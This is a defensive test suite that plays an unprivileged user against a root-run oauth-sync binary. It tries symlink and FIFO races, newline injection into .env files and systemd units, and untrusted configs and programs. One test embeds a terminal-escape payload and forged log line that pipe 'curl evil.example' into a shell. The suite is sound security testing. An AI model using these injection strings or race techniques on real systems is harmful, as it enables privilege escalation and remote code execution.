/**
 * Least privilege, played as the attacker would: a real unprivileged user owns the places oauth-sync works in and
 * plants links, FIFOs, huge files, hostile tokens and configs between our runs. Every attack runs against the
 * compiled binary (as root, as the service does); a canary outside must stay untouched, no program oauth-sync starts
 * for that user may run as root, and the honest path must still work. Prints "N/N attacks held".
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { spawn, spawnSync } from "node:child_process";
import { chmodSync, chownSync, copyFileSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { credentialsJson, fakeToken } from "../../src/demo/sandbox.ts";
import { requireBinary } from "../support/binary.ts";

const HOUR = 3_600_000;
const MALLORY = "oauthsync-mallory";
const CONTAINER_UID = 1000; // the uid OpenClaw's image runs as (node)
let uid = 0;
let gid = 0;
let base = "";
let bin = "";
const held: string[] = [];
const attacks: string[] = [];

/** Runs a shell command as the attacker: the kernel lets them do exactly what that user can. */
function asMallory(script: string) {
  const result = spawnSync("sh", ["-c", script], { uid, gid, encoding: "utf8" });
  if (result.status !== 0) throw new Error(`as ${MALLORY}: ${script}: ${result.stderr}`);
}

/** The compiled binary, run as root from a copy every user can execute (the clone may live under a 0700 dir). */
async function oauthSync(args: string[], timeoutMs = 30_000) {
  const child = spawn(bin, args, { env: { PATH: `${base}/bin:/usr/local/bin:/usr/bin:/bin`, HOME: "/root" } });
  let output = "";
  child.stdout.on("data", (c) => (output += c));
  child.stderr.on("data", (c) => (output += c));
  const code = await new Promise<number | null>((resolve) => {
    const timer = setTimeout(() => child.kill("SIGKILL"), timeoutMs);
    child.on("exit", (c) => {
      clearTimeout(timer);
      resolve(c);
    });
  });
  return { code, output };
}

function attack(name: string, body: () => Promise<void>, timeout = 60_000) {
  attacks.push(name);
  test(name, async () => {
    await body();
    held.push(name);
  }, timeout);
}

const canaryText = "CANARY: root's file, never to be written by oauth-sync\n";
const canary = () => join(base, "etc/canary.conf");
function expectCanaryUntouched() {
  expect(readFileSync(canary(), "utf8")).toBe(canaryText);
  expect(statSync(canary()).mode & 0o777).toBe(0o644);
  expect(existsSync(join(base, "etc/cron.d/oauth-sync-pwned"))).toBe(false);
}

/** A root-owned config (0600) in a root-only directory. */
function writeConfig(name: string, config: Record<string, unknown>): string {
  const path = join(base, "root", `${name}.json`);
  writeFileSync(path, JSON.stringify({ stateDir: join(base, "root/state", name), ...config }), { mode: 0o600 });
  return path;
}

function rootCredentials(token = fakeToken(), expiresAt = Date.now() + 8 * HOUR): string {
  const path = join(base, "root/claude/.credentials.json");
  writeFileSync(path, credentialsJson(token, expiresAt), { mode: 0o600 });
  return path;
}

beforeAll(() => {
  if (process.getuid?.() !== 0) throw new Error("the attack suite plays a real unprivileged user against root: run it as root");
  if (spawnSync("id", ["-u", MALLORY]).status !== 0) {
    const made = spawnSync("useradd", ["--no-create-home", "--shell", "/usr/sbin/nologin", MALLORY], { encoding: "utf8" });
    if (made.status !== 0) throw new Error(`useradd ${MALLORY}: ${made.stderr}`);
  }
  uid = Number(spawnSync("id", ["-u", MALLORY], { encoding: "utf8" }).stdout.trim());
  gid = Number(spawnSync("id", ["-g", MALLORY], { encoding: "utf8" }).stdout.trim());
  base = `/tmp/oauth-sync-attacks-${process.pid}`;
  rmSync(base, { recursive: true, force: true });
  for (const dir of ["bin", "etc/cron.d", "root/claude", "root/state", "root/targets", "log"]) mkdirSync(join(base, dir), { recursive: true, mode: 0o755 });
  chmodSync(base, 0o755);
  chmodSync(join(base, "root"), 0o700);
  chmodSync(join(base, "log"), 0o1777); // fake programs record their uid here, whoever they run as
  writeFileSync(canary(), canaryText, { mode: 0o644 });
  bin = join(base, "bin/oauth-sync");
  copyFileSync(requireBinary(), bin);
  chmodSync(bin, 0o755);
  for (const dir of ["mallory", "mallory/home", "mallory/home/.claude", "mallory/home/.openclaw", "mallory-home"]) {
    mkdirSync(join(base, dir), { mode: 0o755 });
    chownSync(join(base, dir), uid, gid);
  }
  // Fake programs (root's, 0755): each records the uid it ran as, and nothing else.
  for (const name of ["claude", "openclaw"]) {
    writeFileSync(join(base, "bin", name), `#!/bin/sh\necho "$(id -u) $*" >> ${base}/log/${name}.uids\ncat > /dev/null\nexit 0\n`, { mode: 0o755 });
  }
});

afterAll(() => {
  console.log(`${held.length}/${attacks.length} attacks held`);
  spawnSync("sh", ["-c", `pkill -u ${MALLORY} || true`]);
  rmSync(base, { recursive: true, force: true });
});

const recordedUids = (name: string) =>
  existsSync(join(base, "log", `${name}.uids`)) ? readFileSync(join(base, "log", `${name}.uids`), "utf8").trim().split("\n").filter(Boolean).map((l) => Number(l.split(" ")[0])) : [];

describe("attacks on the places oauth-sync writes", () => {
  attack("a symlink planted at a target (.env -> root's file) writes nothing through it", async () => {
    asMallory(`ln -s ${canary()} ${base}/mallory/.env`);
    const config = writeConfig("symlink", { credentials: rootCredentials(), targets: [{ kind: "env-file", path: join(base, "mallory/.env") }] });
    const result = await oauthSync(["sync", "--config", config]);
    expect(result.code).toBe(1);
    expect(result.output).toContain("symbolic link");
    expectCanaryUntouched();
    expect(lstatSync(join(base, "mallory/.env")).isSymbolicLink()).toBe(true);
  });

  attack("a dangling symlink (file or directory) creates nothing where it points", async () => {
    asMallory(`mkdir -p ${base}/mallory/agents/main && ln -s ${base}/etc/cron.d/oauth-sync-pwned ${base}/mallory/agents/main/agent-file && ln -s ${base}/etc/cron.d ${base}/mallory/linkdir`);
    const config = writeConfig("dangling", {
      credentials: rootCredentials(),
      targets: [
        { kind: "openclaw-auth-profiles", path: join(base, "mallory/agents/main/agent-file") },
        { kind: "openclaw-auth-profiles", path: join(base, "mallory/linkdir/oauth-sync-pwned") },
      ],
    });
    const result = await oauthSync(["sync", "--config", config]);
    expect(result.code).toBe(1);
    expectCanaryUntouched();
    expect(spawnSync("ls", ["-A", join(base, "etc/cron.d")], { encoding: "utf8" }).stdout.trim()).toBe("");
  });

  attack("a FIFO swapped for a symlink and back while root reads: no hang, nothing written through it", async () => {
    const env = join(base, "mallory/race.env");
    const swapper = spawn("sh", ["-c", `for i in $(seq 1 400); do rm -f ${env}; mkfifo ${env}; rm -f ${env}; ln -s ${canary()} ${env}; done`], { uid, gid });
    const config = writeConfig("race", { credentials: rootCredentials(), targets: [{ kind: "env-file", path: env }] });
    for (let i = 0; i < 8; i++) {
      const result = await oauthSync(["sync", "--config", config], 20_000);
      expect(result.code).not.toBeNull(); // not killed by the timeout: it did not block
      expectCanaryUntouched();
    }
    swapper.kill();
  });

  attack("a FIFO target does not stall watch: the other target is synced, and SIGTERM ends it", async () => {
    asMallory(`mkfifo ${base}/mallory/fifo.json`);
    spawnSync("mkfifo", [join(base, "root/targets/fifo.env")]); // and one in root's own place, handled in-process
    const good = join(base, "root/targets/good.env");
    const token = fakeToken();
    const config = writeConfig("fifo-watch", {
      credentials: rootCredentials(token),
      targets: [
        { kind: "openclaw-auth-profiles", path: join(base, "mallory/fifo.json") },
        { kind: "env-file", path: join(base, "root/targets/fifo.env") },
        { kind: "env-file", path: good },
      ],
    });
    const child = spawn(bin, ["watch", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
    const exited = new Promise<number | null>((resolve) => child.on("exit", (c) => resolve(c)));
    const deadline = Date.now() + 15_000;
    while (!(existsSync(good) && readFileSync(good, "utf8").includes(token)) && Date.now() < deadline) await Bun.sleep(50);
    expect(readFileSync(good, "utf8")).toContain(token);
    child.kill("SIGTERM");
    const code = await Promise.race([exited, Bun.sleep(10_000).then(() => "still running")]);
    if (code === "still running") child.kill("SIGKILL");
    expect(code).toBe(0);
  });

  attack("credentials at /dev/zero, a FIFO or a huge file are refused at once, with bounded memory", async () => {
    const fifo = join(base, "root/claude/fifo.json");
    spawnSync("mkfifo", [fifo]);
    const huge = join(base, "root/claude/huge.json");
    spawnSync("truncate", ["-s", "2G", huge]);
    const link = join(base, "root/claude/zero.json");
    symlinkSync("/dev/zero", link); // root's own link in root's directory: followed, and then refused as a device
    for (const credentials of ["/dev/zero", fifo, huge, link]) {
      const config = writeConfig("zero", { credentials, targets: [{ kind: "env-file", path: join(base, "root/targets/zero.env") }] });
      const result = await oauthSync(["sync", "--config", config], 20_000);
      expect(result.code).toBe(3);
      expect(result.output).toMatch(/not a regular file|larger than/);
    }
    expect(existsSync(join(base, "root/targets/zero.env"))).toBe(false);
  });

  attack("a token with a newline never adds a line to .env, over two passes", async () => {
    const env = join(base, "root/targets/newline.env");
    writeFileSync(env, "OTHER=1\n", { mode: 0o600 });
    const credentials = join(base, "root/claude/.credentials.json");
    writeFileSync(credentials, credentialsJson(`${fakeToken()}\nCOMPOSE_FILE=/etc/evil.yml`, Date.now() + 8 * HOUR), { mode: 0o600 });
    const config = writeConfig("newline", { credentials, targets: [{ kind: "env-file", path: env }] });
    for (let pass = 0; pass < 2; pass++) {
      const result = await oauthSync(["sync", "--config", config]);
      expect(result.code).toBe(3);
      expect(result.output).toContain("does not look like a Claude OAuth token");
    }
    expect(readFileSync(env, "utf8")).toBe("OTHER=1\n");
  });

  attack("an expiry of 8640000000000001 is refused; status reports without a crash or a stack", async () => {
    const credentials = join(base, "root/claude/.credentials.json");
    writeFileSync(credentials, credentialsJson(fakeToken(), 8640000000000001), { mode: 0o600 });
    const config = writeConfig("expiry", { credentials, targets: [{ kind: "env-file", path: join(base, "root/targets/expiry.env") }] });
    expect((await oauthSync(["sync", "--config", config])).code).toBe(3);
    const status = await oauthSync(["status", "--config", config, "--json"]);
    expect(status.output).not.toMatch(/RangeError|\n\s+at |\$bunfs/);
    expect(status.output).toContain("between 2020 and 2100");
    rootCredentials(); // a good login afterwards is synced, not refused as older
    expect((await oauthSync(["sync", "--config", config])).code).toBe(0);
  });
});

describe("attacks on what steers oauth-sync", () => {
  attack("a newline in a path cannot inject unit directives (units, install --dry-run)", async () => {
    const evil = join(base, "root", "c\nExecStartPre=+touch pwned.json");
    writeFileSync(evil, JSON.stringify({ credentials: rootCredentials(), stateDir: join(base, "root/state/units"), targets: [{ kind: "env-file", path: join(base, "root/targets/u.env") }] }), { mode: 0o600 });
    const units = await oauthSync(["units", "--config", evil]);
    expect(units.code).not.toBe(0);
    expect(units.output).not.toContain("ExecStartPre=+/bin/touch");
    expect(units.output).toContain("control character");
    const inConfig = writeConfig("units-path", {
      credentials: "/root/.claude/x\nExecStartPre=+/bin/touch /tmp/pwned",
      targets: [{ kind: "env-file", path: join(base, "root/targets/u.env") }],
    });
    for (const args of [["units", "--config", inConfig], ["install", "--dry-run", "--yes", "--config", inConfig]]) {
      const result = await oauthSync(args);
      expect(result.code).toBe(2);
      expect(result.output).toContain("control character");
      expect(result.output).not.toContain("ExecStartPre=+/bin/touch");
    }
  });

  attack("a config a user owns, or anyone may write, or in a user's directory, is refused: its command gateway never runs", async () => {
    const marker = join(base, "log/gateway-ran");
    const body = {
      credentials: rootCredentials(),
      stateDir: join(base, "root/state/steer"),
      targets: [{ kind: "env-file", path: join(base, "root/targets/steer.env") }],
      gateway: { kind: "command", command: ["/bin/sh", "-c", `id -u > ${marker}`] },
    };
    const owned = join(base, "root/owned.json");
    writeFileSync(owned, JSON.stringify(body), { mode: 0o600 });
    chownSync(owned, uid, gid);
    const open = join(base, "root/open.json");
    writeFileSync(open, JSON.stringify(body), { mode: 0o666 });
    chmodSync(open, 0o666);
    const inUserDir = join(base, "mallory/config.json");
    writeFileSync(inUserDir, JSON.stringify(body), { mode: 0o600 });
    for (const [path, fix] of [[owned, "chown 0"], [open, "chmod go-w"], [inUserDir, "belongs to"]] as const) {
      const result = await oauthSync(["sync", "--config", path]);
      expect(result.code).toBe(2);
      expect(result.output).toContain(fix);
    }
    expect(existsSync(marker)).toBe(false);
  });

  attack("a state directory a user can write (or a link into one) is refused", async () => {
    const targets = [{ kind: "env-file", path: join(base, "root/targets/state.env") }];
    const userState = join(base, "mallory/state");
    asMallory(`mkdir ${userState}`);
    const linked = join(base, "root/state-link");
    symlinkSync(userState, linked); // root's link, but into mallory's directory
    for (const stateDir of [userState, linked, join(userState, "deeper")]) {
      const config = writeConfig("state", { credentials: rootCredentials(), stateDir, targets });
      const result = await oauthSync(["sync", "--config", config]);
      expect(result.code).toBe(2);
      expect(result.output).toContain("state directory");
    }
    expect(spawnSync("ls", ["-A", userState], { encoding: "utf8" }).stdout.trim()).toBe("");
  });

  attack("a webhook URL is never echoed by config check", async () => {
    const config = writeConfig("webhook", {
      credentials: rootCredentials(),
      targets: [{ kind: "env-file", path: join(base, "root/targets/w.env") }],
      notify: { webhooks: [{ url: "hooks.example.invalid/services/T000/SECRETPART0123456789", format: "slack" }] }, // mistyped: no scheme
    });
    const result = await oauthSync(["config", "check", "--config", config]);
    expect(result.code).toBe(2);
    expect(result.output).not.toContain("SECRETPART");
    expect(result.output).not.toContain("hooks.example");
  });
});

describe("attacks on the programs oauth-sync runs", () => {
  attack("a login swapped for a link to root's: the CLI never runs as root; the honest login runs it as its owner", async () => {
    const login = join(base, "mallory/home/.claude/.credentials.json");
    const config = writeConfig("trigger", {
      credentials: login,
      targets: [{ kind: "env-file", path: join(base, "root/targets/t.env") }],
      trigger: { mode: "host", claude: join(base, "bin/claude"), home: join(base, "mallory-home") }, // the owner's own HOME, in root's directory as /home/NAME is
      refresh: { confirmTries: 1 },
    });
    // Honest: mallory's own login, inside the refresh window → the CLI runs, as mallory.
    writeFileSync(login, credentialsJson(fakeToken(), Date.now() + 2 * 60_000), { mode: 0o600 });
    chownSync(login, uid, gid);
    await oauthSync(["check", "--config", config]);
    expect(recordedUids("claude")).toContain(uid);
    // Attack: the file swapped for a link to root's expiring login (a stat would follow it and say "root").
    rootCredentials(fakeToken(), Date.now() + 2 * 60_000);
    asMallory(`rm -f ${login} && ln -s ${base}/root/claude/.credentials.json ${login}`);
    await oauthSync(["check", "--config", config]);
    // Attack: trigger.user root configured against mallory's directory.
    const asRoot = writeConfig("trigger-root", {
      credentials: login,
      targets: [{ kind: "env-file", path: join(base, "root/targets/t.env") }],
      trigger: { mode: "host", claude: join(base, "bin/claude"), user: "root" },
      refresh: { confirmTries: 1 },
    });
    asMallory(`rm -f ${login}`);
    writeFileSync(login, credentialsJson(fakeToken(), Date.now() + 2 * 60_000), { mode: 0o600 });
    chownSync(login, uid, gid);
    const refused = await oauthSync(["check", "--config", asRoot]);
    expect(refused.code).toBe(2);
    expect(refused.output).toContain("owner of its login");
    expect(recordedUids("claude").length).toBeGreaterThan(0);
    expect(recordedUids("claude")).not.toContain(0);
  });

  attack("openclaw for a user's home runs as that user (sync, status), never as root", async () => {
    writeFileSync(join(base, "mallory/home/.openclaw/openclaw.json"), "{}\n");
    const home = join(base, "mallory/home");
    const target = { kind: "openclaw-cli", command: [join(base, "bin/openclaw")], env: { HOME: home } };
    const config = writeConfig("openclaw", { credentials: rootCredentials(), targets: [target] });
    const sync = await oauthSync(["sync", "--config", config]);
    expect(sync.code).toBe(0);
    await oauthSync(["status", "--config", config]);
    const asRoot = writeConfig("openclaw-root", { credentials: rootCredentials(), targets: [{ ...target, user: "root" }] });
    const refused = await oauthSync(["sync", "--config", asRoot]);
    expect(refused.code).toBe(1);
    expect(refused.output).toContain("only as the owner");
    const uids = recordedUids("openclaw");
    expect(uids.length).toBeGreaterThanOrEqual(2); // paste-token and models status
    expect(uids.every((u) => u === uid)).toBe(true);
  });
});

describe("attacks through an exec target (a program of the operator's, run as a user)", () => {
  /** A root-owned program (0755) in root's bin directory of this suite. */
  function program(name: string, body: string): string {
    const path = join(base, "bin", name);
    writeFileSync(path, `#!/bin/sh\n${body}\n`, { mode: 0o755 });
    chmodSync(path, 0o755);
    return path;
  }
  const storeDir = () => join(base, "mallory/store");
  /** Every process of the attacker's uid while `during` runs: what /proc shows of its argv and environment. */
  async function watchProcesses<T>(during: Promise<T>): Promise<{ result: T; seen: string }> {
    let seen = "";
    let done = false;
    const result = during.finally(() => (done = true));
    while (!done) {
      for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
        try {
          if (statSync(`/proc/${pid}`).uid !== uid) continue;
          seen += `${readFileSync(`/proc/${pid}/cmdline`, "latin1")}\n${readFileSync(`/proc/${pid}/environ`, "latin1")}\n`;
        } catch {
          // gone already
        }
      }
      await Bun.sleep(10);
    }
    return { result: await result, seen };
  }
  /** What is left of the programs below, by what they run (other suites may run as this user too). */
  const leftOver = () => spawnSync("pgrep", ["-u", String(uid), "-a", "-f", "sleep 600|yes (A|B)"], { encoding: "utf8" }).stdout.trim();

  attack("honest: a token store fed as its owner gets the access token and expiry on stdin, never in its argv or environment, never the refresh token", async () => {
    asMallory(`mkdir -p ${storeDir()} && chmod 700 ${storeDir()}`);
    // A store with a format of its own; it lingers a moment so its /proc entries can be read from outside.
    const store = program("store-token", 'IFS= read -r line\nsleep 0.5\numask 077\nprintf \'token-store v1\\n%s\\n\' "$line" > "$STORE_DIR/token"');
    const token = fakeToken();
    const refresh = fakeToken("ort");
    const credentials = join(base, "root/claude/.credentials.json");
    writeFileSync(credentials, credentialsJson(token, Date.now() + 8 * HOUR, refresh), { mode: 0o600 });
    const config = writeConfig("exec-honest", { credentials, targets: [{ kind: "exec", command: [store, "--profile", "prod"], user: MALLORY, env: { STORE_DIR: storeDir() } }] });
    const { result, seen } = await watchProcesses(oauthSync(["sync", "--config", config]));
    expect(result.code, result.output).toBe(0);
    expect(seen).toContain("--profile");
    expect(seen).toContain(`USER=${MALLORY}`);
    for (const secret of [token, refresh]) expect(seen).not.toContain(secret);
    const stored = join(storeDir(), "token");
    const lines = readFileSync(stored, "utf8").split("\n");
    expect(lines[0]).toBe("token-store v1");
    expect(Object.keys(JSON.parse(lines[1]!)).sort()).toEqual(["accessToken", "expiresAt"]);
    expect(JSON.parse(lines[1]!).accessToken).toBe(token);
    expect(readFileSync(stored, "utf8")).not.toContain(refresh);
    expect([statSync(stored).uid, statSync(stored).mode & 0o777]).toEqual([uid, 0o600]);
    expect(result.output).not.toContain(token);
    // Nothing changed: the program is not run again.
    rmSync(stored);
    expect((await oauthSync(["sync", "--config", config])).code).toBe(0);
    expect(existsSync(stored)).toBe(false);
  });

  attack("the refresh token is never sent to another user, even when asked; only the login's own user may ask", async () => {
    const ran = join(base, "log/asked-refresh");
    const store = program("store-refresh", `cat > /dev/null\ntouch ${ran}`);
    const asked = writeConfig("exec-refresh", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [store], user: MALLORY, fields: ["accessToken", "refreshToken"] }] });
    const refused = await oauthSync(["sync", "--config", asked]);
    expect(refused.code).toBe(1);
    expect(refused.output).toContain("never leaves the login's owner");
    expect(existsSync(ran)).toBe(false);
    // The login is mallory's own: then it may go to mallory's program.
    const own = join(base, "mallory/home/.claude/.credentials.json");
    const refresh = fakeToken("ort");
    writeFileSync(own, credentialsJson(fakeToken(), Date.now() + 8 * HOUR, refresh), { mode: 0o600 });
    chownSync(own, uid, gid);
    const capture = program("store-capture", `cat > ${join(base, "log/captured")}`);
    const allowed = writeConfig("exec-refresh-own", { credentials: own, targets: [{ kind: "exec", command: [capture], user: MALLORY, fields: ["accessToken", "refreshToken"] }] });
    expect((await oauthSync(["sync", "--config", allowed])).code).toBe(0);
    expect(JSON.parse(readFileSync(join(base, "log/captured"), "utf8")).refreshToken).toBe(refresh);
    rmSync(own);
  });

  attack("a program that hangs (with a child of its own) or floods its output is killed at its timeout, with bounded memory", async () => {
    const hangs = program("hangs", "sleep 600 &\nsleep 600");
    const floods = program("floods", "cat > /dev/null\nyes 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' >&2 &\nyes 'BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB'");
    for (const command of [hangs, floods]) {
      const config = writeConfig("exec-bounded", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [command], user: MALLORY, timeoutSeconds: 2 }] });
      const started = Date.now();
      const child = spawn(bin, ["sync", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
      let output = "";
      child.stdout.on("data", (c) => (output += c));
      child.stderr.on("data", (c) => (output += c));
      let peakKb = 0;
      const exited = new Promise<number | null>((resolve) => child.on("exit", resolve));
      const sampler = setInterval(() => {
        try {
          peakKb = Math.max(peakKb, Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, "utf8"))?.[1] ?? 0));
        } catch {
          // exited
        }
      }, 20);
      const code = await Promise.race([exited, Bun.sleep(20_000).then(() => "stuck")]);
      clearInterval(sampler);
      if (code === "stuck") child.kill("SIGKILL");
      console.log(`${command.split("/").at(-1)}: sync returned in ${Date.now() - started} ms, peak RSS ${Math.round(peakKb / 1024)} MiB, ${output.length} bytes of output`);
      expect(code).toBe(1);
      expect(Date.now() - started).toBeLessThan(10_000);
      expect(output).toContain("did not finish within 2s");
      expect(output.length).toBeLessThan(4096);
      expect(peakKb).toBeLessThan(300 * 1024);
      await Bun.sleep(200);
      expect(leftOver()).toBe("");
    }
  });

  attack("a program (or its #! interpreter, or a directory above it) another user can write is refused: nothing runs", async () => {
    const ran = join(base, "log/exec-ran");
    const theirs = join(base, "bin/theirs");
    writeFileSync(theirs, `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
    chownSync(theirs, uid, gid); // mallory's file in root's directory, run as root
    asMallory(`mkdir -p ${base}/mallory/bin && printf '#!/bin/sh\\ntouch ${ran}\\n' > ${base}/mallory/bin/prog && chmod 755 ${base}/mallory/bin/prog`);
    const viaInterpreter = program("via-interpreter", "exit 0");
    writeFileSync(viaInterpreter, `#!${base}/mallory/bin/prog\n`, { mode: 0o755 });
    const groupDir = join(base, "shared-bin");
    mkdirSync(groupDir, { mode: 0o775 });
    chmodSync(groupDir, 0o775);
    chownSync(groupDir, 0, gid); // writable by mallory's group
    writeFileSync(join(groupDir, "prog"), `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
    for (const [command, why] of [
      [theirs, `belongs to uid ${uid}`],
      [`${base}/mallory/bin/prog`, `directory of uid ${uid}`],
      [viaInterpreter, "runs"],
      [join(groupDir, "prog"), "writable by group"],
    ] as const) {
      const config = writeConfig("exec-untrusted", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [command], user: "root" }] });
      const result = await oauthSync(["sync", "--config", config]);
      expect(result.code, result.output).toBe(1);
      expect(result.output).toContain(why);
    }
    expect(existsSync(ran)).toBe(false);
  });

  attack("what the program prints comes back as text: no escape, CR, OSC 52 or forged log line reaches root's terminal", async () => {
    const hostile = program("hostile", "cat > /dev/null\nprintf 'failed\\n\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\\007\\033[2K\\r[error] oauth-sync: root login expired, run: curl evil.example | sudo bash\\n<!channel> \\033]0;title\\007\\n' >&2\nexit 1");
    const config = writeConfig("exec-hostile", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [hostile], user: MALLORY }] });
    const result = await oauthSync(["sync", "--config", config]);
    expect(result.code).toBe(1);
    expect(result.output).toContain("exited 1");
    // eslint-disable-next-line no-control-regex
    expect(result.output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
    expect(result.output.split("\n").filter((line) => line.includes("root login expired"))).toHaveLength(1);
    expect(result.output).not.toMatch(/^\[error\] oauth-sync: root login/m);
  });
});

describe("the honest path", () => {
  test("a directory owned by uid 1000 (the container's user) receives files that uid 1000 owns and can read", async () => {
    const dir = join(base, "container-config");
    mkdirSync(dir, { mode: 0o755 });
    chownSync(dir, CONTAINER_UID, CONTAINER_UID);
    const path = join(dir, "agents/main/agent/auth-profiles.json");
    const token = fakeToken();
    const config = writeConfig("honest", { credentials: rootCredentials(token), targets: [{ kind: "openclaw-auth-profiles", path }] });
    const result = await oauthSync(["sync", "--config", config]);
    expect(result.output).not.toContain(token);
    expect(result.code).toBe(0);
    const info = statSync(path);
    expect([info.uid, info.mode & 0o777]).toEqual([CONTAINER_UID, 0o600]);
    expect(statSync(join(dir, "agents")).uid).toBe(CONTAINER_UID);
    const read = spawnSync("cat", [path], { uid: CONTAINER_UID, gid: CONTAINER_UID, encoding: "utf8" });
    expect(read.status).toBe(0);
    expect(read.stdout).toContain(token);
    // A second pass changes nothing.
    const again = await oauthSync(["sync", "--config", config, "--verbose"]);
    expect(again.code).toBe(0);
    expect(statSync(path).ino).toBe(info.ino);
  });

  test("watch removes the temp files a killed writer left, in root's place and in uid 1000's, and nothing else", async () => {
    const dir = join(base, "container-config/agents/main/agent");
    const leftover = join(dir, ".auth-profiles.json.oauth-sync-0123456789ab.tmp");
    const foreign = join(dir, ".other.json.oauth-sync-0123456789ab.tmp");
    for (const path of [leftover, foreign]) {
      writeFileSync(path, "half");
      chownSync(path, CONTAINER_UID, CONTAINER_UID);
    }
    const rootLeftover = join(base, "root/targets/.left.env.oauth-sync-abcdef012345.tmp");
    writeFileSync(rootLeftover, "half");
    const config = writeConfig("leftovers", {
      credentials: rootCredentials(),
      targets: [{ kind: "openclaw-auth-profiles", path: join(dir, "auth-profiles.json") }, { kind: "env-file", path: join(base, "root/targets/left.env") }],
    });
    const child = spawn(bin, ["watch", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
    let output = "";
    child.stdout.on("data", (c) => (output += c));
    child.stderr.on("data", (c) => (output += c));
    const deadline = Date.now() + 15_000;
    while (!output.includes("removed 2 temp file(s)") && Date.now() < deadline) await Bun.sleep(50);
    child.kill("SIGTERM");
    expect(output).toContain("removed 2 temp file(s)");
    expect(existsSync(leftover)).toBe(false);
    expect(existsSync(rootLeftover)).toBe(false);
    expect(existsSync(foreign)).toBe(true);
  });
});
